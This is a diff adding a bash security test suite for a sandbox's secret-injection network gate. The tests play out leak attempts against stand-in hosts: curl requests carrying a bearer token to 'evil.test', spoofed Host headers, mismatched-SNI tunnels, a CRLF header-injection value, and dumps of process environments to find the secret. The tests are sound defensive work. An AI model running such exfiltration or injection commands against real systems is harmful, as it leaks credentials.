@@ -1,0 +1,264 @@
+#!/usr/bin/env bash
+# --secret (docs/network.md, "Secrets"; docs/security-invariants.md, invariant 23): the gate
+# adds the secret's header to requests for its host, over plain HTTP and inside HTTPS it
+# intercepts with the sandbox's own CA, while commands see only a placeholder; and the
+# attacks: the secret never reaches another host (a Host header that names another host
+# inside the tunnel, an absolute-form request for another host naming the secret's host in
+# Host, a plain request to another host), an upstream certificate that is refused (wrong
+# name, unknown CA) fails the request and is reported before the secret is sent, an SNI that
+# differs and a tunnel that carries no TLS are refused, the value is nowhere inside (the
+# environment and command lines of every process, the files rtn puts there, the CA bundle,
+# which carries no key), bad values fail before anything runs, and rtn without --secret
+# does not load OpenSSL.
+#
+# The servers (secret_servers.py: echo the request's head back, and log it) listen on
+# addresses of the documentation range in a test network namespace, with names given to them
+# by an /etc/hosts of a private mount namespace that rtn runs in; rtn verifies their
+# certificates against the test's CA through SSL_CERT_FILE. Making the namespace needs root:
+# as another user those cases skip, saying so.
+. "$(dirname "$0")/../lib.sh"
+t_need_rtn
+
+SERVERS=$T_ROOT/tests/security/secret_servers.py
+VALUE=s3cr3t-$RANDOM-value
+export SERVERS VALUE
+
+need_netns() {
+        [ "$(id -u)" = 0 ] || t_skip "a test network namespace needs root"
+        command -v ip >/dev/null || t_skip "no ip(8) to set up the test network"
+        command -v openssl >/dev/null || t_skip "no openssl(1) to make the test certificates"
+        command -v curl >/dev/null || t_skip "no curl"
+}
+
+# Runs the script file $1 with bash in fresh network and mount namespaces: 203.0.113.1 serves
+# secret.test (TLS on 443, its certificate from the test CA; plain HTTP on 80), also named
+# evil.test and wrongname.test; 203.0.113.2 serves unknown.test (TLS, another CA) on 443.
+# Requests are logged in $T_TMP/log1 and $T_TMP/log2. In the script, $RUN is rtn exec with
+# the test CA trusted and TOK=$VALUE in its environment.
+in_test_netns() {
+        python3 "$SERVERS" certs "$T_TMP" || t_fail "could not make the test certificates"
+        printf '203.0.113.1 secret.test evil.test wrongname.test\n203.0.113.2 unknown.test\n' \
+                >hosts
+        t_cmd unshare -n -m bash -c '
+                ip link set lo up && ip addr add 203.0.113.1/32 dev lo &&
+                        ip addr add 203.0.113.2/32 dev lo || exit 1
+                mount --bind "$T_TMP/hosts" /etc/hosts || exit 1
+                SECRET_LOG=$T_TMP/log1 python3 "$SERVERS" 203.0.113.1 443 \
+                        "$T_TMP/secret.test.crt" "$T_TMP/secret.test.key" &
+                SECRET_LOG=$T_TMP/log1 python3 "$SERVERS" 203.0.113.1 80 &
+                SECRET_LOG=$T_TMP/log2 python3 "$SERVERS" 203.0.113.2 443 \
+                        "$T_TMP/unknown.test.crt" "$T_TMP/unknown.test.key" &
+                for hp in 203.0.113.1/443 203.0.113.1/80 203.0.113.2/443; do
+                        for _ in $(seq 100); do
+                                (exec 3<>"/dev/tcp/$hp") 2>/dev/null && break
+                                sleep 0.1
+                        done
+                done
+                RUN="env TOK=$VALUE SSL_CERT_FILE=$T_TMP/testca.crt $RTN exec"
+                . "$0"
+                kill %1 %2 %3' "$1"
+}
+export T_TMP
+
+# rtn serve: a command of the session's sandbox gets the secret added; each sandbox has a CA
+# of its own.
+secret_serve() {
+        need_netns
+        cat >run.sh <<EOS
+env TOK=$VALUE SSL_CERT_FILE=$T_TMP/testca.crt RTN_DATA_DIR=$T_TMP/data \
+        python3 $T_ROOT/tests/security/secret_serve.py "$RTN" --secret TOK@secret.test
+EOS
+        in_test_netns run.sh
+        t_stdout_has "inside=rtn-placeholder-TOK"
+        t_stdout_has "GET /serve HTTP/1.1"
+        t_stdout_has "Authorization: Bearer $VALUE"
+        t_stdout_has "ca-differs: True"
+}
+
+# The header arrives upstream with the real value over HTTPS and plain HTTP, replacing the
+# placeholder the command sent; inside, TOK is the placeholder.
+secret_injected() {
+        need_netns
+        cat >run.sh <<'EOS'
+$RUN --secret TOK@secret.test -- sh -c '
+        echo "inside=$TOK"
+        curl -sS https://secret.test/tls -H "Authorization: Bearer $TOK"
+        curl -sS http://secret.test/plain'
+EOS
+        in_test_netns run.sh
+        t_stdout_has "inside=rtn-placeholder-TOK"
+        t_stdout_has "GET /tls HTTP/1.1"
+        t_stdout_has "GET /plain HTTP/1.1"
+        [ "$(grep -c "^Authorization: Bearer $VALUE\$" "$T_OUT_FILE")" = 2 ] ||
+                t_fail "the secret did not arrive twice: $(cat "$T_OUT_FILE" "$T_ERR_FILE")"
+        t_false grep -q "rtn-placeholder" "$T_TMP/log1"
+}
+
+# --secret-header names another header; a header of the sandbox's with that name is replaced.
+secret_header_template() {
+        need_netns
+        cat >run.sh <<'EOS'
+$RUN --secret TOK@secret.test --secret-header 'TOK=X-Api-Key: key={};' -- \
+        curl -sS https://secret.test/ -H "x-api-key: $TOK"
+EOS
+        in_test_netns run.sh
+        t_stdout_has "X-Api-Key: key=$VALUE;"
+        [ "$(grep -ci "^x-api-key:" "$T_OUT_FILE")" = 1 ] || t_fail "two X-Api-Key headers"
+        t_false grep -q "^Authorization" "$T_OUT_FILE"
+}
+
+# The secret goes to its host alone: a Host header naming another host inside the
+# intercepted tunnel is refused (and reported), as is an absolute-form request for another
+# host whose Host names the secret's; a request to another host keeps the placeholder.
+secret_other_hosts() {
+        need_netns
+        cat >run.sh <<'EOS'
+$RUN --secret TOK@secret.test --allow-net evil.test -- sh -c '
+        curl -sS https://secret.test/ -H "Host: evil.test"; echo
+        curl -sS http://evil.test/ -H "Host: secret.test"; echo
+        curl -sS http://evil.test/other -H "Authorization: Bearer $TOK"'
+EOS
+        in_test_netns run.sh
+        t_stdout_has "rtn gate refused: the Host header names evil.test, not secret.test"
+        t_stdout_has "rtn gate refused: the Host header names secret.test, not evil.test"
+        t_stdout_has "Authorization: Bearer rtn-placeholder-TOK"
+        t_stderr_has "rtn: network denied secret.test:443: the Host header names evil.test"
+        t_false grep -q "$VALUE" "$T_OUT_FILE" "$T_TMP/log1"
+}
+
+# An upstream certificate for another name, or from a CA the host does not trust: the
+# request fails with the reason, it is reported, and no request reached the server.
+secret_upstream_refused() {
+        need_netns
+        cat >run.sh <<'EOS'
+$RUN --secret TOK@wrongname.test --secret TOK@unknown.test -- sh -c '
+        curl -sS https://wrongname.test/; echo
+        curl -sS https://unknown.test/'
+EOS
+        in_test_netns run.sh
+        t_stdout_has "the certificate of wrongname.test is refused: hostname mismatch"
+        t_stdout_has "the certificate of unknown.test is refused: unable to get local issuer"
+        t_stderr_has "rtn: network denied wrongname.test:443: the certificate of wrongname.test"
+        t_stderr_has "rtn: network denied unknown.test:443: the certificate of unknown.test"
+        [ ! -s "$T_TMP/log1" ] && [ ! -s "$T_TMP/log2" ] ||
+                t_fail "a request reached a refused server: $(cat "$T_TMP"/log*)"
+}
+
+# The tunnel to an intercepted host is held as any: the ClientHello's name must be the
+# CONNECT host, and what is not TLS is closed; both reported.
+secret_tunnel_checks() {
+        need_netns
+        cat >run.sh <<'EOS'
+$RUN --secret TOK@secret.test -- python3 -c '
+import os, socket, ssl
+def tunnel():
+    port = int(os.environ["https_proxy"].rsplit(":", 1)[1])
+    s = socket.create_connection(("127.0.0.1", port))
+    s.sendall(b"CONNECT secret.test:443 HTTP/1.1\r\nHost: secret.test:443\r\n\r\n")
+    assert b" 200 " in s.recv(1000)
+    return s
+ctx = ssl.create_default_context()
+ctx.check_hostname = False
+ctx.verify_mode = ssl.CERT_NONE
+try:
+    ctx.wrap_socket(tunnel(), server_hostname="evil.test")
+    print("sni: open")
+except (ssl.SSLError, OSError) as e:
+    print("sni: refused")
+s = tunnel()
+s.sendall(b"GET / HTTP/1.1\r\nHost: secret.test\r\n\r\n")
+try:
+    print("plain:", s.recv(1000) or "closed")
+except OSError:
+    print("plain: closed")'
+EOS
+        in_test_netns run.sh
+        t_stdout_has "sni: refused"
+        t_stdout_has "plain: closed"
+        t_stderr_has "TLS server name evil.test differs from the CONNECT host secret.test"
+        t_stderr_has "a CONNECT tunnel to secret.test carries TLS only"
+        [ ! -s "$T_TMP/log1" ] || t_fail "a request reached the server: $(cat "$T_TMP/log1")"
+}
+
+# Inside, the value is nowhere: not in any process's environment or command line, not in
+# the files rtn puts there; the CA bundle holds certificates only (no key), the gate's CA
+# last. Needs no network: runs as every user.
+secret_never_inside() {
+        printf '%s' "$VALUE" >needle
+        t_cmd env TOK="$VALUE" "$RTN" exec --bind "$T_TMP/needle:/mnt/needle:ro" \
+                --secret TOK@secret.test -- sh -c '
+                cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\0" "\n"
+                env; cat /run/rtn/*
+                echo "certs=$(grep -c "BEGIN CERTIFICATE" /run/rtn/ca-certificates.crt)"
+                echo "keys=$(grep -c "PRIVATE KEY" /run/rtn/ca-certificates.crt)"
+                grep -rlsF -f /mnt/needle /run /etc /tmp /home /root /workspace /var |
+                        sed "s/^/found: /"
+                echo end'
+        t_exit_is 0
+        t_stdout_has "TOK=rtn-placeholder-TOK"
+        t_stdout_has "SSL_CERT_FILE=/run/rtn/ca-certificates.crt"
+        t_stdout_has "NODE_EXTRA_CA_CERTS=/run/rtn/ca-certificates.crt"
+        t_stdout_has "keys=0"
+        t_false grep -q "$VALUE" "$T_OUT_FILE"
+        t_false grep -q "^certs=0" "$T_OUT_FILE"
+        t_false grep -q "^found: " "$T_OUT_FILE"
+}
+
+# Bad values fail before anything runs, with a message that says why, and never echo the
+# value.
+secret_bad_values() {
+        t_cmd env -u TOK "$RTN" exec --secret TOK@secret.test -- true
+        t_exit_is 125
+        t_stderr_has "TOK is not set in rtn's environment"
+        t_cmd env TOK="$(printf 'a\r\nX-Evil: 1')" "$RTN" exec --secret TOK@secret.test -- true
+        t_exit_is 125
+        t_stderr_has "control character"
+        t_false grep -q "X-Evil" "$T_ERR_FILE"
+        t_cmd "$RTN" exec --secret "TOK@secret.test=$VALUE" -- true
+        t_exit_is 125
+        t_stderr_has "NAME@HOST"
+        t_false grep -q "$VALUE" "$T_ERR_FILE"
+        t_cmd env TOK=x "$RTN" exec --secret TOK@203.0.113.9 -- true
+        t_exit_is 125
+        t_stderr_has "is not a host name"
+        t_cmd "$RTN" exec --secret-file TOK@secret.test="$T_TMP/none" -- true
+        t_exit_is 125
+        t_stderr_has "--secret-file $T_TMP/none"
+        t_cmd env TOK=x "$RTN" exec --secret TOK@secret.test --secret-header 'TOK=NoColon {}' \
+                -- true
+        t_exit_is 125
+        t_stderr_has "the template is 'Header-Name: text'"
+        t_cmd "$RTN" exec --secret-header 'TOK=X-Key: {}' -- true
+        t_exit_is 125
+        t_stderr_has "no --secret or --secret-file names TOK before it"
+        printf '%s\n' "$VALUE" >"$T_TMP/tok"
+        t_cmd "$RTN" exec --secret-file TOK@secret.test="$T_TMP/tok" -- sh -c 'echo $TOK'
+        t_exit_is 0
+        t_stdout_is "rtn-placeholder-TOK"
+}
+
+# OpenSSL is loaded when a secret is configured, and not otherwise.
+openssl_only_with_secret() {
+        local cmd='sleep 3'
+        "$RTN" exec --allow-net example.org -- sh -c "$cmd" &
+        local pid=$!
+        sleep 1
+        t_false grep -q "libssl" "/proc/$pid/maps"
+        wait "$pid"
+        TOK=x "$RTN" exec --secret TOK@example.org -- sh -c "$cmd" &
+        pid=$!
+        sleep 1
+        t_true grep -q "libssl" "/proc/$pid/maps"
+        wait "$pid"
+}
+
+t_run secret_injected secret_injected
+t_run secret_serve secret_serve
+t_run secret_header_template secret_header_template
+t_run secret_other_hosts secret_other_hosts
+t_run secret_upstream_refused secret_upstream_refused
+t_run secret_tunnel_checks secret_tunnel_checks
+t_run secret_never_inside secret_never_inside
+t_run secret_bad_values secret_bad_values
+t_run openssl_only_with_secret openssl_only_with_secret
+t_done
